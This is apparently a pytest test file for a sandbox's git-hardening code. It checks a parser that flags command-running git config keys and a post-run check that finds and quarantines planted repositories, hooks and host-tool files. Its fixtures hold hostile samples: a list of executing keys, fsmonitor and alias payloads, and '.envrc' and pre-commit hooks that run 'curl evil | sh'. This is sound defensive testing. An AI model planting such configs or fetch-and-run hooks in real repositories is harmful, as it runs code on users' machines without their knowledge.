"""Git config read as text, the hooks directory it names, and the post-run check for
repositories a run planted in its workspace (snapshot, compare, quarantine, records)."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from orchestrator.hardening import planted
from orchestrator.host.gitconfig import (
    EXECUTING_KEYS,
    ConfigSyntaxError,
    config_entries,
    executing,
    executing_keys,
)
from orchestrator.host.githooks import hooks_path_entry
from orchestrator.runner.doctor import advice
from tests.unit.helpers import audit_records
from tests.unit.stub_runs import stub_run

# --- git config as text (the one reader: the policy's and the post-run check's) ---------


def test_config_is_read_the_way_git_reads_sections_quotes_comments_and_continuations() -> None:
    text = (
        "\ufeff[core]\r\n\tbare = false ; a comment\n\tFsMonitor = \"sh -c 'x' # not a comment\"\n"
        '\tPager = "less -R" # c\n[diff "My Driver"]\n  textconv = cat \\\n  -n\n[alias]\n'
        "  boolkey\n[Pager.Sub]\n  log = less\n[CORE] FSMONITOR = x\n[x] y = 1 ; z = 2\n"
        "# [core] fsmonitor = x\n; pager = x\n"
    )
    assert config_entries(text, strict=True) == [
        ("core.bare", "false"),
        ("core.fsmonitor", "sh -c 'x' # not a comment"),
        ("core.pager", "less -R"),
        ("diff.My Driver.textconv", "cat   -n"),
        ("alias.boolkey", None),
        ("pager.sub.log", "less"),
        ("core.fsmonitor", "x"),
        ("x.y", "1"),
    ]
    assert config_entries("") == []


UNPARSABLE = [
    "[core\n",
    '[core]\n\tpager = "unterminated\n',
    "fsmonitor = x\n",
    "[core]\n\tfsmonitor = a\\qb\n",
    "[core]\n\t= x\n",
    '[core "a\n',
    "[core x]\n",
]


@pytest.mark.parametrize("text", UNPARSABLE)
def test_text_git_would_not_parse_raises_or_is_itself_an_executing_entry(text: str) -> None:
    with pytest.raises(ConfigSyntaxError, match="on line"):
        config_entries(text, strict=True)
    (key,) = executing_keys(config_entries(text))
    assert key.startswith("(unparsable config: ")


def test_a_lenient_read_goes_on_after_the_line_it_could_not_parse() -> None:
    text = '[core]\n\tpager = a\\x\n\thooksPath = h\n[bad\n\tx = 1\n[diff "d"]\n\tcommand = c\n'
    assert config_entries(text) == [
        ("(unparsable config: the escape \\'x' in a value on line 2)", None),
        ("core.hookspath", "h"),
        ("diff.d.command", "c"),
    ]


# Every key either former reader flagged (planted's and the policy's, now one): the
# union, each with a value that runs something. Each of EXECUTING_KEYS counts in any
# section too (the parametrisation adds them).
UNION = [
    ("core.fsmonitor", "./evil"),
    ("core.hooksPath", ".husky"),
    ("core.sshCommand", "evil"),
    ("core.pager", "evil"),
    ("core.pager", "false"),  # git runs "false": core.pager is never a boolean
    ("core.editor", "evil"),
    ("core.askPass", "evil"),
    ("core.gitProxy", "evil"),
    ("core.alternateRefsCommand", "evil"),
    ("sequence.editor", "evil"),
    ("diff.external", "evil"),
    ("interactive.diffFilter", "evil"),
    ("sendemail.sendmailCmd", "evil"),
    ("sendemail.smtpServer", "evil"),
    ("sendemail.toCmd", "evil"),
    ("sendemail.ccCmd", "evil"),
    ("sendemail.headerCmd", "evil"),
    ("web.browser", "evil"),
    ("help.browser", "evil"),
    ("uploadpack.packObjectsHook", "evil"),
    ("protocol.allow", "always"),
    ("protocol.ext.allow", "user"),
    ("protocol.version", "2"),  # every protocol key
    ("pager.log", "evil"),
    ("filter.lfs.smudge", "evil"),
    ("filter.lfs.clean", "evil"),
    ("filter.lfs.process", "evil"),
    ("filter.lfs.required", "true"),  # every filter key
    ("include.path", "../x.cfg"),
    ("includeIf.gitdir:/.path", "x.cfg"),
    ("instaweb.httpd", "evil"),
    ("guitool.t.cmd", "evil"),
    ("guitool.t.title", "x"),  # every guitool key
    ("diff.x.textconv", "evil"),
    ("diff.x.command", "evil"),
    ("merge.x.driver", "evil"),
    ("credential.helper", "evil"),
    ("credential.https://h.helper", "evil"),
    ("gpg.program", "evil"),
    ("gpg.ssh.program", "evil"),
    ("gpg.ssh.defaultKeyCommand", "evil"),
    ("difftool.t.cmd", "evil"),
    ("difftool.t.path", "evil"),
    ("difftool.path", "evil"),
    ("mergetool.t.cmd", "evil"),
    ("mergetool.t.path", "evil"),
    ("browser.b.cmd", "evil"),
    ("browser.b.path", "evil"),
    ("man.m.cmd", "evil"),
    ("man.m.path", "evil"),
    ("man.viewer", "evil"),
    ("tar.tgz.command", "evil"),
    ("trailer.t.command", "evil"),
    ("trailer.t.cmd", "evil"),
    ("remote.o.uploadpack", "evil"),
    ("remote.o.receivepack", "evil"),
    ("remote.o.url", "ext::sh -c evil"),
    ("remote.o.vcs", "evil"),
    ("imap.tunnel", "evil"),
    ("alias.st", "!evil"),
    ("submodule.s.update", "!evil"),
    ("log.showSignature", "true"),
    ("log.showSignature", None),
]


def config_line(key: str, value: str | None) -> str:
    section, _, rest = key.partition(".")
    sub, _, name = rest.rpartition(".")
    header = f'[{section} "{sub}"]' if sub else f"[{section}]"
    return f"{header}\n\t{name}" + ("" if value is None else f" = {value}") + "\n"


@pytest.mark.parametrize(
    ("key", "value"), UNION + [(f"any.sub.{name}", "./x") for name in sorted(EXECUTING_KEYS)]
)
def test_every_key_of_the_union_is_flagged(key: str, value: str | None) -> None:
    assert executing_keys(config_entries(config_line(key, value), strict=True)) == [key.lower()]
    assert executing(key.lower(), value)  # as `git -c KEY=VALUE` is judged


@pytest.mark.parametrize(
    ("key", "value"),
    [("core.fsmonitor", "true"), ("core.fsmonitor", "false"), ("core.fsmonitor", None),
     ("alias.st", "status"), ("remote.o.url", "ssh://x"), ("remote.o.url", "x"),
     ("color.pager", "no"), ("pager.log", "false"), ("pager.branch", None),
     ("submodule.s.update", "checkout"), ("protocol.allow", "never"),
     ("protocol.ext.allow", "NEVER"), ("log.showSignature", "false"), ("core.bare", "false"),
     ("core.repositoryformatversion", "0"), ("branch.main.remote", "origin"),
     ("user.name", "x")],
)  # fmt: skip
def test_keys_that_run_nothing_are_not_reported(key: str, value: str | None) -> None:
    assert executing_keys(config_entries(config_line(key, value), strict=True)) == []


# --- core.hooksPath ------------------------------------------------------------------------


def git_config(workspace: Path, text: str) -> None:
    (workspace / ".git").mkdir(exist_ok=True)
    (workspace / ".git" / "config").write_text(text)


def test_an_existing_hooks_directory_inside_the_workspace_is_returned(workspace: Path) -> None:
    git_config(workspace, "[core]\n\thooksPath = .husky\n")
    (workspace / ".husky").mkdir()
    assert hooks_path_entry(str(workspace)) == ".husky"


def test_a_missing_hooks_directory_gives_its_first_missing_component(workspace: Path) -> None:
    git_config(workspace, "[core]\n\thooksPath = tools/git/hooks\n")
    assert hooks_path_entry(str(workspace)) == "tools"
    (workspace / "tools").mkdir()
    assert hooks_path_entry(str(workspace)) == "tools/git"


@pytest.mark.parametrize("value", ["/etc/hooks", "../elsewhere", ".git/hooks", "."])
def test_a_hooks_path_outside_the_workspace_or_in_git_gives_nothing(
    workspace: Path, value: str
) -> None:
    git_config(workspace, f"[core]\n\thooksPath = {value}\n")
    assert hooks_path_entry(str(workspace)) is None


def test_a_symlink_on_the_way_is_returned_so_the_run_fails_closed(workspace: Path) -> None:
    git_config(workspace, "[core]\n\thooksPath = hooks/git\n")
    (workspace / "real").mkdir()
    (workspace / "hooks").symlink_to(workspace / "real")
    assert hooks_path_entry(str(workspace)) == "hooks"


def test_a_workspace_below_the_repository_root_resolves_from_the_root(workspace: Path) -> None:
    git_config(workspace, "[core]\n\thooksPath = sub/hooks\n")
    (workspace / "sub" / "hooks").mkdir(parents=True)
    assert hooks_path_entry(str(workspace / "sub")) == "hooks"


def test_the_users_global_hooks_path_counts_when_asked(workspace: Path, home: Path) -> None:
    git_config(workspace, "[user]\n\tname = me\n")
    (home / ".gitconfig").write_text("[core]\n\thooksPath = .githooks\n")
    assert hooks_path_entry(str(workspace)) is None
    assert hooks_path_entry(str(workspace), {"HOME": str(home)}) == ".githooks"


def test_a_symlinked_global_config_is_read_as_git_reads_it(
    workspace: Path, home: Path, tmp_path: Path
) -> None:
    """Dotfiles managers make ~/.gitconfig a symlink; git follows it, and so must we
    (a global core.hooksPath there, safe.bareRepository for doctor)."""
    git_config(workspace, "[user]\n\tname = me\n")
    (tmp_path / "dotfiles").mkdir()
    real = tmp_path / "dotfiles" / "gitconfig"
    real.write_text("[core]\n\thooksPath = .githooks\n[safe]\n\tbareRepository = explicit\n")
    (home / ".gitconfig").symlink_to(real)
    environ = {"HOME": str(home), "XDG_CONFIG_HOME": str(home / "xdg")}
    assert hooks_path_entry(str(workspace), environ) == ".githooks"
    assert advice(environ) == ()


def test_no_repository_means_no_hooks_path(tmp_path: Path) -> None:
    lonely = tmp_path / "x"
    lonely.mkdir()
    assert hooks_path_entry(str(lonely)) is None or tmp_path.joinpath(".git").exists()


# --- the post-run check -----------------------------------------------------------------


def git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


def bare_layout(where: Path, config: str = "[core]\n\tfsmonitor = touch /tmp/x\n") -> None:
    (where / "objects").mkdir(parents=True)
    (where / "refs").mkdir()
    (where / "HEAD").write_text("ref: refs/heads/main\n")
    (where / "config").write_text(config)


def test_a_nested_repository_with_fsmonitor_is_found_after_the_run(workspace: Path) -> None:
    before = planted.snapshot(str(workspace))
    git("init", "-q", "nested", cwd=workspace)
    git("config", "core.fsmonitor", "touch /tmp/planted", cwd=workspace / "nested")
    (finding,), after = planted.check(before)
    assert after.complete
    assert (finding.where, finding.kind, finding.new) == ("nested/.git", "gitdir", True)
    assert finding.keys == ("core.fsmonitor",)
    assert "nested/.git" in finding.text() and "core.fsmonitor" in finding.text()


def test_a_bare_layout_where_there_is_no_git_is_found(workspace: Path) -> None:
    before = planted.snapshot(str(workspace))
    bare_layout(workspace)
    (finding,), _ = planted.check(before)
    assert (finding.where, finding.kind, finding.keys) == (".", "bare", ("core.fsmonitor",))


def test_quarantine_renames_head_and_config_so_git_no_longer_sees_a_repository(
    workspace: Path,
) -> None:
    before = planted.snapshot(str(workspace))
    bare_layout(workspace / "sub")
    git("init", "-q", "nested", cwd=workspace)
    findings, _ = planted.check(before, quarantine_id="r1")
    assert sorted(f.where for f in findings) == ["nested/.git", "sub"]
    assert not (workspace / "sub" / "HEAD").exists() and not (workspace / "sub/config").exists()
    assert (workspace / "sub" / "config.codex-box-quarantine-r1").exists()
    assert (workspace / "nested" / ".git" / "HEAD.codex-box-quarantine-r1").exists()
    assert all(f.moved for f in findings) and "quarantined" in findings[0].text()


def test_a_repository_that_was_there_and_did_not_change_is_not_reported(workspace: Path) -> None:
    git("init", "-q", "dep", cwd=workspace)
    git("config", "credential.helper", "store", cwd=workspace / "dep")
    before = planted.snapshot(str(workspace))
    assert planted.check(before)[0] == []


def test_a_config_change_that_runs_nothing_is_not_reported(workspace: Path) -> None:
    git("init", "-q", "dep", cwd=workspace)
    before = planted.snapshot(str(workspace))
    git("remote", "add", "origin", "https://example.invalid/x", cwd=workspace / "dep")
    assert planted.check(before)[0] == []


def test_a_rewrite_in_place_with_its_mtime_reset_is_still_a_change(workspace: Path) -> None:
    git("init", "-q", "dep", cwd=workspace)
    config = workspace / "dep" / ".git" / "config"
    padded = config.read_text() + "#" * 40 + "\n"
    config.write_text(padded)
    stat = config.stat()
    before = planted.snapshot(str(workspace))
    time.sleep(0.02)
    payload = "[alias]\n\tx = !touch /tmp/pwn #"
    evil = config.read_text().replace("#" * 40, payload + "#" * (40 - len(payload)))
    assert len(evil) == len(padded)
    with open(config, "r+") as handle:  # same inode, same size
        handle.write(evil)
    os.utime(config, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    (finding,), _ = planted.check(before)
    assert not finding.new and finding.keys == ("alias.x",)


def test_a_hook_added_to_an_existing_nested_repository_is_reported_and_quarantined(
    workspace: Path,
) -> None:
    git("init", "-q", "dep", cwd=workspace)
    before = planted.snapshot(str(workspace))
    hook = workspace / "dep" / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ntouch /tmp/pwn\n")
    (finding,), _ = planted.check(before, quarantine_id="r2")
    assert finding.hooks == ("pre-commit",) and not finding.new
    assert not hook.exists() and hook.with_name("pre-commit.codex-box-quarantine-r2").exists()


def test_a_planted_gitfile_is_reported_with_the_keys_of_its_target(workspace: Path) -> None:
    before = planted.snapshot(str(workspace))
    bare_layout(workspace / "node_modules" / "x")  # skipped by the walk, not by the gitfile
    (workspace / "src").mkdir()
    (workspace / "src" / ".git").write_text("gitdir: ../node_modules/x\n")
    (finding,), _ = planted.check(before, quarantine_id="r3")
    assert (finding.where, finding.kind, finding.keys) == (
        "src/.git",
        "gitfile",
        ("core.fsmonitor",),
    )
    assert (workspace / "src" / ".git.codex-box-quarantine-r3").exists()


def test_a_config_padded_past_the_read_limit_is_itself_reported(workspace: Path) -> None:
    before = planted.snapshot(str(workspace))
    bare_layout(workspace / "p", config="#" * (planted.MAX_CONFIG + 10) + "\n[core]\nfsmonitor=x\n")
    (finding,), _ = planted.check(before)
    assert "longer than" in finding.keys[0]


def test_a_planted_config_git_would_not_parse_is_itself_reported(workspace: Path) -> None:
    before = planted.snapshot(str(workspace))
    bare_layout(workspace / "p", config="[core]\n\tfsmonitor = a\\qb\n[alias]\n\tx = !y\n")
    (finding,), _ = planted.check(before)
    assert finding.keys == (
        "(unparsable config: the escape \\'q' in a value on line 2)",
        "alias.x",
    )


def test_the_workspace_s_own_git_and_skipped_trees_are_not_walked(workspace: Path) -> None:
    before = planted.snapshot(str(workspace))
    git("init", "-q", ".", cwd=workspace)
    git("init", "-q", "node_modules/pkg", cwd=workspace)
    assert planted.check(before)[0] == []


def test_a_walk_out_of_time_says_so_and_still_dates_what_changed(workspace: Path) -> None:
    before = planted.snapshot(str(workspace), budget_s=-1)
    assert not before.complete
    git("init", "-q", "late", cwd=workspace)
    findings, _ = planted.check(before)
    assert [f.where for f in findings] == ["late/.git"]  # its files are newer than the walk


# --- wiring: runner, audit, doctor -------------------------------------------------------


class _Planting:
    """A stub backend whose command plants a repository in the workspace."""

    name = "stub"

    def run(self, spec: object, facts: object = None, **_: object) -> object:
        from orchestrator.core.spec import RunResult

        workspace = Path(spec.workspace)  # type: ignore[attr-defined]
        bare_layout(workspace / "evil")
        return RunResult(exit_code=3, backend=self.name, duration_s=0.0)


def _planting_run(base_env: dict[str, str], workspace: Path, profile: str) -> object:
    return stub_run(base_env, workspace, profile=profile, backend=_Planting())


def test_a_run_that_plants_a_repository_gets_an_audit_record_and_a_warning(
    base_env: dict[str, str], workspace: Path, codex_home: Path
) -> None:
    outcome = _planting_run(base_env, workspace, "workspace")
    assert outcome.result.exit_code == 3  # type: ignore[attr-defined]
    (warning,) = outcome.warnings  # type: ignore[attr-defined]
    assert "evil" in warning and "core.fsmonitor" in warning
    (record,) = [r for r in audit_records(codex_home) if r["operation"] == "planted_repo"]
    assert record["target"] == "evil" and record["decision"] == "allowed"
    assert (workspace / "evil" / "config").exists()  # warn leaves it in place


def test_with_on_planted_repo_quarantine_the_planted_config_is_moved_aside(
    base_env: dict[str, str], workspace: Path, codex_home: Path, write_profile: object
) -> None:
    write_profile("strict", "extends: workspace\nfilesystem:\n  on_planted_repo: quarantine\n")  # type: ignore[operator]
    outcome = _planting_run(base_env, workspace, "strict")
    assert "quarantined" in outcome.warnings[0]  # type: ignore[attr-defined]
    assert not (workspace / "evil" / "config").exists()
    (record,) = [r for r in audit_records(codex_home) if r["operation"] == "planted_repo"]
    assert record["decision"] == "denied"


def test_a_failing_check_is_a_warning_never_the_run_s_result(
    base_env: dict[str, str], workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(planted, "check", broken)
    outcome = _planting_run(base_env, workspace, "workspace")
    assert outcome.result.exit_code == 3  # type: ignore[attr-defined]
    assert "check failed: disk on fire" in outcome.warnings[0]  # type: ignore[attr-defined]


def test_a_read_only_run_takes_no_snapshot(
    base_env: dict[str, str], workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(planted, "snapshot", lambda *_a, **_k: pytest.fail("walked"))
    assert stub_run(base_env, workspace, profile="offline").warnings == ()


def test_doctor_recommends_explicit_bare_repositories_until_the_user_sets_it(home: Path) -> None:
    environ = {"HOME": str(home), "XDG_CONFIG_HOME": str(home / "xdg")}
    (line,) = advice(environ)
    assert "git config --global safe.bareRepository explicit" in line
    (home / ".gitconfig").write_text("[safe]\n\tbareRepository = explicit\n")
    assert advice(environ) == ()


# --- red-team findings: nested host-tool files, nested hooksPath, a swapped parent -----


def test_a_host_tool_file_planted_in_a_subdirectory_is_reported_and_quarantined(
    workspace: Path,
) -> None:
    (workspace / "sub").mkdir()
    before = planted.snapshot(str(workspace))
    (workspace / "sub" / ".vscode").mkdir()
    (workspace / "sub" / ".vscode" / "tasks.json").write_text('{"runOn": "folderOpen"}')
    (workspace / "sub" / ".envrc").write_text("curl evil | sh\n")
    findings, _ = planted.check(before, quarantine_id="r9")
    assert sorted(f.where for f in findings) == ["sub/.envrc", "sub/.vscode"]
    assert all(f.kind == "hostfile" and f.new and f.moved for f in findings)
    assert "runs or trusts" in findings[0].text()
    assert not (workspace / "sub" / ".envrc").exists()
    assert (workspace / "sub" / f".envrc{planted.QUARANTINE}r9").exists()


def test_an_unchanged_host_tool_file_in_a_subdirectory_is_not_reported(workspace: Path) -> None:
    (workspace / "sub" / ".vscode").mkdir(parents=True)
    (workspace / "sub" / ".vscode" / "settings.json").write_text("{}")
    before = planted.snapshot(str(workspace))
    assert planted.check(before)[0] == []


def test_a_hook_written_where_a_nested_repository_s_hooks_path_points_is_reported(
    workspace: Path,
) -> None:
    """A husky setup in a subproject: core.hooksPath = .husky in proj/.git/config."""
    git("init", "-q", "proj", cwd=workspace)
    git("config", "core.hooksPath", ".husky", cwd=workspace / "proj")
    (workspace / "proj" / ".husky").mkdir()
    before = planted.snapshot(str(workspace))
    (workspace / "proj" / ".husky" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    findings, _ = planted.check(before, quarantine_id="r8")
    (finding,) = [f for f in findings if f.kind != "hostfile"]
    assert "proj/.husky/pre-commit" in finding.hooks
    assert not (workspace / "proj" / ".husky" / "pre-commit").exists()


def test_the_check_after_a_parent_is_swapped_for_a_link_acts_on_the_pinned_workspace(
    base_env: dict[str, str], tmp_path: Path, codex_home: Path, write_profile: object
) -> None:
    """A concurrent sandbox swaps W/sub (the victim workspace's parent) with a link to
    another project during the run: quarantine must not rename that project's repo."""
    import ctypes

    from orchestrator.core.spec import RunResult

    write_profile("strict", "extends: workspace\nfilesystem:\n  on_planted_repo: quarantine\n")  # type: ignore[operator]
    (tmp_path / "W" / "sub" / "ws").mkdir(parents=True)
    (tmp_path / "outside" / "ws").mkdir(parents=True)
    git("init", "-q", "proj", cwd=tmp_path / "outside" / "ws")
    (tmp_path / "W" / "lnk").symlink_to(tmp_path / "outside")
    victim = tmp_path / "W" / "sub" / "ws"

    class Swapping:
        name = "stub"

        def run(self, spec: object, facts: object = None, **_: object) -> RunResult:
            bare_layout(victim / "evil")  # what the run itself planted
            libc = ctypes.CDLL(None, use_errno=True)
            a, b = bytes(tmp_path / "W" / "sub"), bytes(tmp_path / "W" / "lnk")
            assert libc.renameat2(-100, a, -100, b, 2) == 0
            return RunResult(exit_code=0, backend=self.name, duration_s=0.0)

    outcome = stub_run(base_env, victim, profile="strict", backend=Swapping())
    outside_git = tmp_path / "outside" / "ws" / "proj" / ".git"
    assert (outside_git / "HEAD").exists() and (outside_git / "config").exists()
    assert any("evil" in w and "quarantined" in w for w in outcome.warnings)
    assert not (tmp_path / "W" / "lnk" / "ws" / "evil" / "config").exists()  # the real one
